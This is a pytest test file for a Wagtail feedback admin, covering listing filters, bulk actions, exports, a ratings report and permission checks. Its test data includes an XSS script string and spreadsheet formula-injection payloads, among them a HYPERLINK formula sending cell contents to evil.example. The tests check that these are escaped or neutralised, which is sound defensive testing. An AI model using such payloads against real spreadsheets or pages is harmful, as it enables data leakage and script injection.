"""The editors' side of feedback: the Feedback snippet (listing, filters, search,
bulk status, delete, exports), the "Session ratings" report, the page panel and
"Reset ratings", each only for users with the feedback permissions."""

import csv
import datetime
import io
import re
import zipfile
from types import SimpleNamespace
from unittest import mock

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format
from django.utils.http import urlencode
from wagtail.models import GroupPagePermission, Page
from wagtail.test.utils import WagtailTestUtils

from tests.builders import soup_of, text_of
from tests.conftest import menu_item_names
from wagtail_pmolib.admin.exports import neutralise_formula
from wagtail_pmolib.admin.reports import attach_pages, session_ratings
from wagtail_pmolib.feedback import votes
from wagtail_pmolib.feedback.identity import Visitor
from wagtail_pmolib.models import Feedback, FeedbackSettings, RatingSummary

NS = "wagtailsnippets_wagtail_pmolib_feedback"
LIST_URL = reverse(f"{NS}:list")
ADD_URL = reverse(f"{NS}:add")
REPORT_URL = reverse("wagtail_pmolib_admin:session_ratings")
REPORT_RESULTS_URL = reverse("wagtail_pmolib_admin:session_ratings_results")
SUMMARY_FIELDS = ["period", "count", "total", "stars_1", "stars_2", "stars_3", "stars_4", "stars_5"]
SCRIPT = '<script>alert("pwned")</script>'
ESCAPED_SCRIPT = "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;"
FEEDBACK_PERMISSIONS = ["view_feedback", "change_feedback", "delete_feedback"]


# --- Helpers ----------------------------------------------------------------------


def vote(page, who, rating=None, comment="", days_ago=0):
    """A visitor's vote through the real rules, dated ``days_ago`` days back."""
    visitor = Visitor(key=f"visitor-{who}")
    votes.submit(
        page,
        visitor,
        votes.Submission(rating=rating, comment=comment),
        FeedbackSettings(comment_form="always"),
    )
    row = Feedback.objects.get(
        page=page, visitor=visitor.key, period=RatingSummary.objects.get(page=page).period
    )
    if days_ago:
        Feedback.objects.filter(pk=row.pk).update(
            created_at=timezone.now() - datetime.timedelta(days=days_ago)
        )
        row.refresh_from_db()
    return row


def stored_summary(page):
    return dict(RatingSummary.objects.filter(page=page).values(*SUMMARY_FIELDS).get())


def recounted(page):
    """A recount from the stored votes, without trusting the stored summary."""
    votes.recount(page.pk)
    return stored_summary(page)


def edit_url(page):
    return reverse("wagtailadmin_pages:edit", args=[page.pk])


def reset_url(page):
    return reverse("wagtail_pmolib_admin:reset_ratings", args=[page.pk])


def bulk_url(action, *feedback):
    ids = "&".join(f"id={item.pk}" for item in feedback)
    url = reverse("wagtail_bulk_action", args=["wagtail_pmolib", "feedback", action])
    return f"{url}?next={LIST_URL}&{ids}"


def html(response):
    return response.content.decode()


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def assert_denied(response):
    """Wagtail's answer to a logged-in editor without permission: back to the dashboard."""
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailadmin_home")


# --- Fixtures ---------------------------------------------------------------------


@pytest.fixture
def pages(make_session):
    return SimpleNamespace(
        step_up=make_session(title="Step up"),
        people=make_session(title="PMO People"),
        quiet=make_session(title="Quiet session"),
    )


@pytest.fixture
def users(db, site_root):
    """Editors who may all edit pages; only some may see or change feedback."""
    page_editors = Group.objects.create(name="Page editors")
    page_editors.permissions.add(Permission.objects.get(codename="access_admin"))
    for codename in ("add_page", "change_page", "publish_page"):
        GroupPagePermission.objects.create(
            group=page_editors,
            page=site_root,
            permission=Permission.objects.get(
                codename=codename, content_type__app_label=Page._meta.app_label
            ),
        )
    moderators = Group.objects.create(name="Feedback moderators")
    moderators.permissions.set(
        Permission.objects.filter(
            content_type__app_label="wagtail_pmolib", codename__in=FEEDBACK_PERMISSIONS
        )
    )
    readers = Group.objects.create(name="Feedback readers")
    readers.permissions.add(Permission.objects.get(codename="view_feedback"))

    def user(name, *groups):
        made = WagtailTestUtils.create_user(name, password="password")
        made.groups.add(page_editors, *groups)
        return made

    return SimpleNamespace(
        moderator=user("moderator", moderators),
        reader=user("reader", readers),
        outsider=user("outsider"),
    )


@pytest.fixture
def login(client):
    def as_user(user):
        client.force_login(user)
        return client

    return as_user


@pytest.fixture
def feedback(pages):
    """Feedback on two pages: ratings, comments, a comment-only row and spam."""
    step_up, people = pages.step_up, pages.people
    rows = SimpleNamespace(
        five=vote(step_up, "a", 5, "Great session, loved the SORE framework"),
        four=vote(step_up, "b", 4),
        script=vote(step_up, "c", 2, SCRIPT),
        question=vote(step_up, "d", comment="Where are the slides?"),
        people_five=vote(people, "e", 5, "Useful"),
        people_one=vote(people, "f", 1, "Too short", days_ago=40),
    )
    Feedback.objects.filter(pk=rows.people_one.pk).update(status="spam")
    votes.recount(people.pk)
    rows.people_one.refresh_from_db()
    return rows


# --- 1. The Feedback snippet ------------------------------------------------------


def listing_rows(response):
    """The listing's table as lists of cell texts (without the checkbox column)."""
    soup = WagtailTestUtils.get_soup(response.content)
    rows = []
    for row in soup.select("table.listing tbody tr"):
        title = row.select_one("td.title .title-wrapper")
        cells = [title, *row.find_all("td")[2:]]
        rows.append([" ".join(cell.get_text(" ").split()) for cell in cells])
    return rows


def test_listing_shows_page_rating_comment_status_and_date(login, users, pages, feedback):
    response = login(users.moderator).get(LIST_URL)
    assert response.status_code == 200
    rows = listing_rows(response)
    assert len(rows) == 6
    # Newest first: the spam row was dated 40 days back.
    assert [row[:4] for row in (rows[0], rows[-1])] == [
        ["PMO People", "5 stars", "Useful", "New"],
        ["PMO People", "1 star", "Too short", "Spam"],
    ]
    question = next(row for row in rows if "slides" in row[2])
    assert question[:4] == ["Step up", "", "Where are the slides?", "New"]
    assert all(row[4] for row in rows)  # the created date
    assert reverse(f"{NS}:edit", args=[feedback.five.pk]) in html(response)


def test_listing_escapes_and_truncates_comments(login, users, pages):
    long_comment = "Long " * 100
    vote(pages.step_up, "a", 3, SCRIPT)
    vote(pages.step_up, "b", 4, long_comment)
    response = login(users.moderator).get(LIST_URL)
    content = html(response)
    assert SCRIPT not in content
    assert "<script>alert" not in content
    assert ESCAPED_SCRIPT in content
    comments = [row[2] for row in listing_rows(response)]
    assert SCRIPT in comments  # shown as text
    long_cell = next(comment for comment in comments if comment.startswith("Long"))
    assert long_cell.endswith("…") and len(long_cell) <= 100


@pytest.mark.parametrize(
    ("params", "shown", "hidden"),
    [
        ({"rating": "5"}, ["Great session", "Useful"], ["Where are the slides", "Too short"]),
        ({"rating": "null"}, ["Where are the slides"], ["Great session", "Useful"]),
        ({"status": "spam"}, ["Too short"], ["Great session", "Useful"]),
        ({"q": "slides"}, ["Where are the slides"], ["Great session", "Useful"]),
        ({"q": "SORE framework"}, ["Great session"], ["Where are the slides", "Useful"]),
    ],
)
def test_listing_filters_and_search(login, users, feedback, params, shown, hidden):
    response = login(users.moderator).get(LIST_URL, params)
    assert response.status_code == 200
    content = html(response)
    for text in shown:
        assert text in content, text
    for text in hidden:
        assert text not in content, text


def test_listing_filter_by_page(login, users, pages, feedback):
    client = login(users.moderator)
    comments = [row[2] for row in listing_rows(client.get(LIST_URL, {"page": pages.people.pk}))]
    assert comments == ["Useful", "Too short"]
    # The page filter offers only pages that have feedback.
    soup = WagtailTestUtils.get_soup(client.get(LIST_URL).content)
    offered = {option["value"] for option in soup.select("select[name=page] option")}
    assert offered == {"", str(pages.step_up.pk), str(pages.people.pk)}


def test_listing_filter_by_date_range(login, users, feedback):
    today = timezone.localdate()
    client = login(users.moderator)
    old = {
        "created_at_from": (today - datetime.timedelta(days=60)).isoformat(),
        "created_at_to": (today - datetime.timedelta(days=30)).isoformat(),
    }
    content = html(client.get(LIST_URL, old))
    assert "Too short" in content
    assert "Useful" not in content and "Great session" not in content
    recent = {"created_at_from": today.isoformat(), "created_at_to": today.isoformat()}
    content = html(client.get(LIST_URL, recent))
    assert "Useful" in content and "Great session" in content
    assert "Too short" not in content


def test_nobody_adds_feedback_in_the_admin(login, users, pages, superuser_client):
    content = html(superuser_client.get(LIST_URL))
    assert ADD_URL not in content
    assert_denied(superuser_client.get(ADD_URL))
    response = superuser_client.post(
        ADD_URL, {"page": pages.step_up.pk, "rating": 5, "comment": "Fake", "status": "new"}
    )
    assert_denied(response)
    assert not Feedback.objects.exists()
    # No "add" permission is offered to groups either: it would grant nothing.
    registered = Feedback.snippet_viewset.get_permissions_to_register()
    assert set(registered.values_list("codename", flat=True)) == set(FEEDBACK_PERMISSIONS)


@pytest.fixture
def superuser_client(db):
    client = Client()
    client.force_login(WagtailTestUtils.create_superuser("admin", password="password"))
    return client


def test_edit_changes_the_status_only_and_the_summary_follows(login, users, pages, feedback):
    client = login(users.moderator)
    url = reverse(f"{NS}:edit", args=[feedback.five.pk])
    response = client.get(url)
    assert response.status_code == 200
    assert "Great session, loved the SORE framework" in html(response)

    response = client.post(url, {"status": "spam", "rating": "1", "comment": "Rewritten"})
    assert response.status_code == 302
    feedback.five.refresh_from_db()
    assert (feedback.five.status, feedback.five.rating) == ("spam", 5)
    assert feedback.five.comment == "Great session, loved the SORE framework"
    summary = stored_summary(pages.step_up)
    assert (summary["count"], summary["stars_5"]) == (2, 0)
    assert summary == recounted(pages.step_up)


def test_feedback_is_named_by_its_session_and_day(login, users, pages, feedback):
    """Not "2★ – 19": the edit view's title, what it shows and the saved message
    name the session and the day."""
    client = login(users.moderator)
    day = date_format(timezone.localtime(feedback.five.created_at), "j F Y")
    name = f"5★ on “Step up”, {day}"
    assert str(feedback.five) == name
    assert str(feedback.question).startswith("Comment on “Step up”, ")

    url = reverse(f"{NS}:edit", args=[feedback.five.pk])
    soup = WagtailTestUtils.get_soup(client.get(url).content)
    assert name in soup.title.get_text()
    fields = [" ".join(f.get_text(" ").split()) for f in soup.select("main [data-field-wrapper]")]
    assert fields[:2] == [
        "Step up",
        date_format(timezone.localtime(feedback.five.created_at), "DATETIME_FORMAT"),
    ]

    response = client.post(url, {"status": "reviewed"}, follow=True)
    assert any(name in str(m) for m in response.context["messages"])


def test_edit_and_inspect_views_escape_the_comment(login, users, feedback):
    client = login(users.moderator)
    for url in (
        reverse(f"{NS}:edit", args=[feedback.script.pk]),
        reverse(f"{NS}:inspect", args=[feedback.script.pk]),
    ):
        content = html(client.get(url))
        assert SCRIPT not in content, url
        assert "&lt;script&gt;" in content, url


def test_bulk_status_change_keeps_summaries_equal_to_a_recount(login, users, pages, feedback):
    client = login(users.moderator)
    chosen = (feedback.five, feedback.four, feedback.script, feedback.people_five)
    url = bulk_url("set_status", *chosen)

    response = client.get(url)
    assert response.status_code == 200
    content = html(response)
    assert 'name="status"' in content
    assert SCRIPT not in content

    before = stored_summary(pages.step_up)
    assert before["count"] == 3
    with mock.patch.object(votes, "recount", wraps=votes.recount) as recount:
        response = client.post(url, {"status": "spam"})
    assert response.status_code == 302
    # One recount per page whose summary changes, not one per feedback.
    assert sorted(call.args[0] for call in recount.call_args_list) == sorted(
        [pages.step_up.pk, pages.people.pk]
    )
    assert set(
        Feedback.objects.filter(pk__in=[f.pk for f in chosen]).values_list("status", flat=True)
    ) == {"spam"}
    for page in (pages.step_up, pages.people):
        summary = stored_summary(page)
        assert summary["count"] == 0
        assert summary == recounted(page)

    # Out of Spam again: the ratings count again.
    client.post(bulk_url("set_status", *chosen), {"status": "reviewed"})
    step_up = stored_summary(pages.step_up)
    assert (step_up["count"], step_up["total"]) == (3, 11)
    assert step_up == recounted(pages.step_up)
    assert stored_summary(pages.people) == recounted(pages.people)


def test_bulk_status_change_between_counted_statuses_recounts_nothing(
    login, users, pages, feedback
):
    client = login(users.moderator)
    with mock.patch.object(votes, "recount", wraps=votes.recount) as recount:
        client.post(bulk_url("set_status", feedback.five, feedback.four), {"status": "actioned"})
    assert recount.call_count == 0
    assert Feedback.objects.get(pk=feedback.five.pk).status == "actioned"


def test_bulk_status_change_needs_the_change_permission(login, users, pages, feedback):
    url = bulk_url("set_status", feedback.five)
    for user in (users.reader, users.outsider):
        client = login(user)
        content = html(client.get(url))
        assert "You don't have permission to change this feedback" in content
        assert 'name="status"' not in content
        client.post(url, {"status": "spam"})
        assert Feedback.objects.get(pk=feedback.five.pk).status == "new"
    assert stored_summary(pages.step_up)["count"] == 3


def test_bulk_delete_recounts_each_page_once(login, users, pages, feedback):
    client = login(users.moderator)
    chosen = (feedback.five, feedback.four, feedback.people_five)
    url = bulk_url("delete", *chosen)
    assert "Are you sure you want to delete 3 feedback?" in html(client.get(url))
    with mock.patch.object(votes, "recount", wraps=votes.recount) as recount:
        response = client.post(url)
    assert response.status_code == 302
    assert sorted(call.args[0] for call in recount.call_args_list) == sorted(
        [pages.step_up.pk, pages.people.pk]
    )
    assert not Feedback.objects.filter(pk__in=[f.pk for f in chosen]).exists()
    step_up = stored_summary(pages.step_up)
    assert (step_up["count"], step_up["total"]) == (1, 2)
    assert step_up == recounted(pages.step_up)
    assert stored_summary(pages.people)["count"] == 0


def test_bulk_delete_needs_the_delete_permission(login, users, feedback):
    login(users.reader).post(bulk_url("delete", feedback.five))
    assert Feedback.objects.filter(pk=feedback.five.pk).exists()


def select_all_url(action, **listing_params):
    """What the listing's "select all in listing" sends: its own filters, and id=all."""
    url = reverse("wagtail_bulk_action", args=["wagtail_pmolib", "feedback", action])
    return f"{url}?{urlencode({**listing_params, 'id': 'all', 'next': LIST_URL})}"


def test_select_all_in_listing_keeps_to_the_filtered_listing(login, users, pages, feedback):
    client = login(users.moderator)
    client.post(select_all_url("set_status", status="new", rating="5"), {"status": "reviewed"})
    reviewed = set(Feedback.objects.filter(status="reviewed").values_list("pk", flat=True))
    assert reviewed == {feedback.five.pk, feedback.people_five.pk}

    client.post(select_all_url("delete", q="slides"))
    assert not Feedback.objects.filter(pk=feedback.question.pk).exists()
    assert Feedback.objects.count() == 5

    client.post(select_all_url("set_status", page=pages.people.pk), {"status": "spam"})
    assert set(Feedback.objects.filter(status="spam").values_list("page_id", flat=True)) == {
        pages.people.pk
    }
    assert stored_summary(pages.people) == recounted(pages.people)
    assert stored_summary(pages.step_up)["count"] == 3


@pytest.mark.parametrize(
    ("comment", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', "'=HYPERLINK("),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("Fine – thanks", "Fine – thanks"),
    ],
)
def test_csv_export_neutralises_formulas(login, users, pages, comment, cell):
    vote(pages.step_up, "a", 4, comment)
    response = login(users.moderator).get(LIST_URL, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, row = csv_rows(response)
    assert header == ["Page ID", "Page", "Rating", "Comment", "Status", "Rating period", "Created"]
    assert row[:3] == [str(pages.step_up.pk), "Step up", "4"]
    assert row[3].startswith(cell)
    assert row[3].lstrip("'") == comment
    assert row[4] == "New"


def test_neutralise_formula_covers_tab_and_carriage_return():
    # The whole OWASP list, full-width forms and leading blanks: tests/admin/test_exports.py.
    assert neutralise_formula("\t=1+1") == "'\t=1+1"
    assert neutralise_formula("\r=1+1") == "'\r=1+1"
    assert neutralise_formula("A=1") == "A=1"
    assert neutralise_formula(-1) == -1
    assert neutralise_formula(None) is None


def test_xlsx_export_keeps_formulas_as_text(login, users, pages):
    """String cells, never formulas; with the same ``'`` as in CSV, so that editing
    a cell in the spreadsheet does not turn it into a formula either."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("https://evil.example","Click")'
    vote(pages.step_up, "a", 4, formula)
    vote(pages.step_up, "b", 5, "@SUM(A1:A9)")
    response = login(users.moderator).get(LIST_URL, {"export": "xlsx"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells["'" + formula] == "s"
    assert cells["'@SUM(A1:A9)"] == "s"


def test_export_follows_the_filters(login, users, feedback):
    response = login(users.moderator).get(LIST_URL, {"export": "csv", "rating": "5"})
    comments = sorted(row[3] for row in csv_rows(response)[1:])
    assert comments == ["Great session, loved the SORE framework", "Useful"]


def test_feedback_listing_needs_a_feedback_permission(login, users, feedback):
    client = login(users.outsider)
    assert_denied(client.get(LIST_URL))
    assert_denied(client.get(reverse(f"{NS}:edit", args=[feedback.five.pk])))
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib_feedback" not in menu_item_names(response.wsgi_request)

    client = login(users.reader)
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib_feedback" in menu_item_names(response.wsgi_request)
    assert client.get(LIST_URL).status_code == 200
    # Reading is not changing: no edit form, and no status change through it.
    edit = reverse(f"{NS}:edit", args=[feedback.five.pk])
    assert_denied(client.post(edit, {"status": "spam"}))
    assert Feedback.objects.get(pk=feedback.five.pk).status == "new"
    assert client.get(reverse(f"{NS}:inspect", args=[feedback.five.pk])).status_code == 200


def test_feedback_menu_item_gives_way_to_the_modeladmin_listing(login, users, settings):
    client = login(users.moderator)
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib_feedback" in menu_item_names(response.wsgi_request)
    settings.WAGTAIL_PMOLIB = {"FEEDBACK_ADMIN": "modeladmin"}
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib_feedback" not in menu_item_names(response.wsgi_request)


# --- 2. The "Session ratings" report ----------------------------------------------


@pytest.fixture
def rated(make_session):
    """Three pages with known votes (in the current month) and one spam vote."""
    best = make_session(title="Best session")
    one_vote = make_session(title="One vote wonder")
    solid = make_session(title="Solid session")
    for who, rating in (("a", 5), ("b", 5), ("c", 4)):
        vote(best, who, rating, "Loved it" if who == "a" else "")
    vote(best, "d", comment="Slides please")
    vote(one_vote, "e", 1)
    vote(solid, "f", 3, "OK")
    vote(solid, "g", 3)
    spam = vote(solid, "h", 5, "Buy now")
    Feedback.objects.filter(pk=spam.pk).update(status="spam")
    votes.recount(solid.pk)
    return SimpleNamespace(best=best, one_vote=one_vote, solid=solid)


def test_report_figures_for_a_known_set_of_votes(db, rated, settings):
    settings.WAGTAIL_PMOLIB = {"BAYESIAN_PRIOR_WEIGHT": 5}
    rows = session_ratings(Feedback.objects.all())
    # Prior mean: (5+5+4 + 1 + 3+3) / 6 = 3.5, weighted by 5 ratings.
    assert [row.page_id for row in rows] == [rated.best.pk, rated.solid.pk, rated.one_vote.pk]
    best, solid, one_vote = rows
    assert (best.count, best.total, best.comments) == (3, 14, 2)
    assert best.average == pytest.approx(14 / 3)
    assert best.bayesian_average == pytest.approx((5 * 3.5 + 14) / 8)
    assert best.stars == {5: 2, 4: 1, 3: 0, 2: 0, 1: 0}
    assert best.percents == {5: 67, 4: 33, 3: 0, 2: 0, 1: 0}
    # Spam counts nowhere: not in the ratings, the stars or the comments.
    assert (solid.count, solid.total, solid.comments, solid.stars[5]) == (2, 6, 1, 0)
    assert solid.bayesian_average == pytest.approx((5 * 3.5 + 6) / 7)
    assert one_vote.bayesian_average == pytest.approx((5 * 3.5 + 1) / 6)
    assert one_vote.percents[1] == 100


def test_report_weight_zero_ranks_by_plain_average(db, rated, settings):
    settings.WAGTAIL_PMOLIB = {"BAYESIAN_PRIOR_WEIGHT": 0}
    rows = session_ratings(Feedback.objects.all())
    assert [row.bayesian_average for row in rows] == [row.average for row in rows]


def test_report_is_one_aggregate_query_plus_one_for_titles(
    db, rated, make_session, django_assert_num_queries
):
    for n in range(4):
        vote(make_session(title=f"Extra {n}"), f"x{n}", 4)
    with django_assert_num_queries(1):
        rows = session_ratings(Feedback.objects.all())
    assert len(rows) == 7
    with django_assert_num_queries(1):
        attach_pages(rows)
    assert {row.title for row in rows} >= {"Best session", "Extra 3"}


def test_report_view_query_count_does_not_grow_with_pages(login, users, rated, make_session):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = login(users.reader)
    client.get(REPORT_URL)  # warm up the sessions, permissions and site caches
    with CaptureQueriesContext(connection) as few:
        client.get(REPORT_URL)
    for n in range(5):
        vote(make_session(title=f"Extra {n}"), f"x{n}", 4)
    with CaptureQueriesContext(connection) as many:
        response = client.get(REPORT_URL)
    assert "Extra 4" in html(response)
    assert len(many) == len(few)


def test_report_page_lists_pages_in_bayesian_order_with_distribution(login, users, rated):
    response = login(users.reader).get(REPORT_URL)
    assert response.status_code == 200
    content = html(response)
    positions = [content.index(t) for t in ("Best session", "Solid session", "One vote wonder")]
    assert positions == sorted(positions)
    assert "3.94" in content  # (5 × 3.5 + 14) / 8 = 3.9375
    assert "4.67" in content  # the plain average 14 / 3
    assert "2 (67%)" in content and "1 (33%)" in content
    assert "Buy now" not in content
    listing = f"{LIST_URL}?page={rated.best.pk}"
    assert listing in content


def test_report_escapes_page_titles(login, users, make_session):
    page = make_session(title=f"Session {SCRIPT}", slug="scripted")
    vote(page, "a", 4, SCRIPT)
    content = html(login(users.reader).get(REPORT_URL))
    assert SCRIPT not in content
    assert f"Session {ESCAPED_SCRIPT}" in content


def test_report_date_range(login, users, make_session):
    page = make_session(title="Long-running session")
    other = make_session(title="Old favourite")
    vote(page, "a", 1, days_ago=100)
    vote(page, "b", 5, days_ago=10)
    vote(page, "c", 4, days_ago=5)
    vote(other, "d", 5, days_ago=100)
    today = timezone.localdate()
    window = {
        "created_at_from": (today - datetime.timedelta(days=20)).isoformat(),
        "created_at_to": today.isoformat(),
    }
    client = login(users.reader)
    content = html(client.get(REPORT_URL, window))
    assert "Long-running session" in content
    assert "Old favourite" not in content
    assert "4.50" in content  # only the two recent votes: (5 + 4) / 2

    rows = csv_rows(client.get(REPORT_URL, {**window, "export": "csv"}))
    assert len(rows) == 2
    assert rows[1][:5] == ["Long-running session", str(page.pk), "2", "4.5", "4.5"]

    # The whole history: the old vote counts, and the other page appears.
    rows = csv_rows(client.get(REPORT_URL, {"export": "csv"}))
    assert {row[0] for row in rows[1:]} == {"Long-running session", "Old favourite"}
    long_running = next(row for row in rows if row[0] == "Long-running session")
    assert long_running[2] == "3"


def test_report_export_csv_and_xlsx(login, users, rated, make_session):
    from openpyxl import load_workbook

    hostile = make_session(title='=HYPERLINK("https://evil.example")', slug="hostile")
    vote(hostile, "z", 2)
    client = login(users.reader)
    rows = csv_rows(client.get(REPORT_URL, {"export": "csv"}))
    assert rows[0] == [
        "Page",
        "Page ID",
        "Ratings",
        "Average",
        "Bayesian average",
        "5 stars",
        "5 stars (%)",
        "4 stars",
        "4 stars (%)",
        "3 stars",
        "3 stars (%)",
        "2 stars",
        "2 stars (%)",
        "1 star",
        "1 star (%)",
        "Comments",
    ]
    best = next(row for row in rows if row[0] == "Best session")
    # Prior mean with the hostile page's vote: (14 + 1 + 6 + 2) / 7.
    bayesian = round((5 * 23 / 7 + 14) / 8, 2)
    assert best[1:8] == [str(rated.best.pk), "3", "4.67", str(bayesian), "2", "67", "1"]
    assert best[-1] == "2"
    hostile_rows = [row[0] for row in rows if "HYPERLINK" in row[0]]
    assert hostile_rows == ['\'=HYPERLINK("https://evil.example")']

    response = client.get(REPORT_URL, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][0] == "Best session"
    assert values[1][2] == 3
    assert values[1][3] == pytest.approx(4.67)


def test_report_after_a_reset_counts_the_new_period_only(login, users, make_session):
    page = make_session(title="Reset session")
    vote(page, "a", 1)
    vote(page, "b", 2)
    votes.reset_ratings(page.pk)
    assert session_ratings(Feedback.objects.all()) == []  # nothing counts yet
    vote(page, "a", 5)  # the same visitor votes again in the new period
    assert stored_summary(page)["count"] == 1
    (row,) = session_ratings(Feedback.objects.all())
    assert (row.count, row.total) == (1, 5)  # as the page and "Top rated" count it
    assert "Reset session" in html(login(users.reader).get(REPORT_URL))
    # The old votes stay in the feedback listing.
    assert Feedback.objects.filter(page=page).count() == 3


def test_report_ranks_as_the_top_rated_sort_after_a_reset(client, library, make_session):
    """One rule for ranking pages by their ratings: after "Reset ratings" the
    report's order, counts and averages are those "Top rated" shows visitors."""
    crowd_pleaser = make_session(title="Crowd pleaser")
    steady = make_session(title="Steady")
    fair = make_session(title="Fair")
    make_session(title="Never rated")
    for who in "abcdef":
        vote(crowd_pleaser, who, 5)
    votes.reset_ratings(crowd_pleaser.pk)  # e.g. the article was rewritten
    vote(crowd_pleaser, "a", 1)
    vote(crowd_pleaser, "b", 2)
    vote(steady, "g", 4)
    vote(steady, "h", 4)
    vote(fair, "i", 3)
    vote(fair, "j", 3)

    rows = attach_pages(session_ratings(Feedback.objects.all()))
    report = [(row.title, row.count, round(row.average, 1)) for row in rows]
    results = soup_of(client.get(library.url, {"sort": "top-rated"})).select(".pmolib-result")
    shown = []
    for result in results:
        rating = result.select_one(".pmolib-result__rating")
        if rating is not None:  # unrated sessions sit at the prior, not in the report
            figures = re.match(r"★ ([\d.]+) out of 5 stars \((\d+) ratings?\)", text_of(rating))
            title = text_of(result.select_one(".pmolib-result__title"))
            shown.append((title, int(figures[2]), float(figures[1])))
    assert report == shown == [("Steady", 2, 4.0), ("Fair", 2, 3.0), ("Crowd pleaser", 2, 1.5)]
    # Prior: the mean of the counted votes, (3 + 8 + 6) / 6, weighted by 5 votes.
    prior = 17 / 6
    assert [row.bayesian_average for row in rows] == pytest.approx(
        [(5 * prior + total) / 7 for total in (8, 6, 3)]
    )


def test_report_results_fragment_for_filtering_in_place(login, users, rated):
    response = login(users.reader).get(REPORT_RESULTS_URL)
    assert response.status_code == 200
    assert "Best session" in html(response)


def test_report_needs_the_view_permission(login, users, rated):
    client = login(users.outsider)
    assert_denied(client.get(REPORT_URL))
    assert_denied(client.get(REPORT_URL, {"export": "csv"}))
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib-session-ratings" not in menu_item_names(response.wsgi_request)

    client = login(users.reader)
    response = client.get(reverse("wagtailadmin_home"))
    assert "pmolib-session-ratings" in menu_item_names(response.wsgi_request)


def test_report_sends_anonymous_visitors_to_the_login_page(client, db):
    response = client.get(REPORT_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))


# --- 3. The page panel ------------------------------------------------------------


def test_panel_shows_the_summary_and_the_latest_comments(login, users, pages):
    page = pages.step_up
    for n in range(6):
        row = vote(page, f"v{n}", 4 if n % 2 else 5, f"Comment number {n}")
        Feedback.objects.filter(pk=row.pk).update(
            created_at=timezone.now() - datetime.timedelta(hours=10 - n)
        )
    vote(page, "script", 5, SCRIPT)
    spam = vote(page, "spam", 1, "Cheap pills")
    Feedback.objects.filter(pk=spam.pk).update(status="spam")
    votes.recount(page.pk)

    response = login(users.moderator).get(edit_url(page))
    assert response.status_code == 200
    content = html(response)
    assert "Ratings and comments" in content
    # (5 × 4 + 4 × 3) / 7, the spam vote left out
    assert "<strong>4.6 out of 5 stars</strong>, <span>7 ratings</span>" in content
    assert ESCAPED_SCRIPT in content and SCRIPT not in content
    # The latest five comments, newest first; spam is left out.
    for n in (5, 4, 3, 2):
        assert f"Comment number {n}" in content
    assert "Comment number 1" not in content and "Comment number 0" not in content
    assert "Cheap pills" not in content
    assert content.index("Comment number 5") < content.index("Comment number 2")
    assert f"{LIST_URL}?page={page.pk}" in content
    assert reset_url(page) in content


def test_panel_shows_the_current_period_only(login, users, pages):
    page = pages.step_up
    vote(page, "a", 1, "Old comment")
    votes.reset_ratings(page.pk)
    vote(page, "b", 5)
    content = html(login(users.reader).get(edit_url(page)))
    assert "<strong>5.0 out of 5 stars</strong>, <span>1 rating</span>" in content
    assert "Rating period 2" in content
    # Comments are the page's latest, whatever the period.
    assert "Old comment" in content
    # One date style in the panel: "30 November 2026" (with the time for comments).
    today = date_format(timezone.localtime(), "j F Y")
    assert f"Rating period 2, since {today}." in content
    assert re.search(rf"{today}, \d\d:\d\d\s+– 1 star", content)


def test_panel_is_hidden_without_the_view_permission(login, users, pages):
    vote(pages.step_up, "a", 5, "Secret praise")
    response = login(users.outsider).get(edit_url(pages.step_up))
    assert response.status_code == 200
    content = html(response)
    assert "Ratings and comments" not in content
    assert "Secret praise" not in content
    assert "out of 5 stars" not in content


def test_panel_for_readers_has_no_reset_link(login, users, pages):
    vote(pages.step_up, "a", 5, "Praise")
    content = html(login(users.reader).get(edit_url(pages.step_up)))
    assert "Praise" in content
    assert reset_url(pages.step_up) not in content


def test_create_view_renders_without_the_panel(login, users, conference):
    url = reverse("wagtailadmin_pages:add", args=["wagtail_pmolib", "sessionpage", conference.pk])
    response = login(users.moderator).get(url)
    assert response.status_code == 200
    assert "Ratings and comments" not in html(response)


# --- 4. Reset ratings -------------------------------------------------------------


def test_reset_button_only_for_the_change_permission(login, users, pages):
    header_button = 'title="Start a new rating period: the public summary restarts"'
    content = html(login(users.moderator).get(edit_url(pages.step_up)))
    assert header_button in content
    assert reset_url(pages.step_up) in content
    for user in (users.reader, users.outsider):
        content = html(login(user).get(edit_url(pages.step_up)))
        assert header_button not in content
        assert reset_url(pages.step_up) not in content


def test_reset_asks_first(login, users, pages):
    vote(pages.step_up, "a", 4)
    response = login(users.moderator).get(reset_url(pages.step_up))
    assert response.status_code == 200
    content = html(response)
    assert "Step up" in content
    assert 'method="POST"' in content and "csrfmiddlewaretoken" in content
    assert "Rating period 1 has 1 rating." in content
    assert stored_summary(pages.step_up)["period"] == 1


def test_reset_starts_a_new_period(login, users, pages):
    page = pages.step_up
    vote(page, "a", 4, "Keep me")
    vote(page, "b", 2)
    client = login(users.moderator)
    response = client.post(reset_url(page), follow=True)
    assert response.redirect_chain[0] == (edit_url(page), 302)
    assert "rating period 2 has started" in html(response)
    summary = stored_summary(page)
    assert summary == {**dict.fromkeys(SUMMARY_FIELDS, 0), "period": 2}
    assert votes.summary_for(page.pk).count == 0
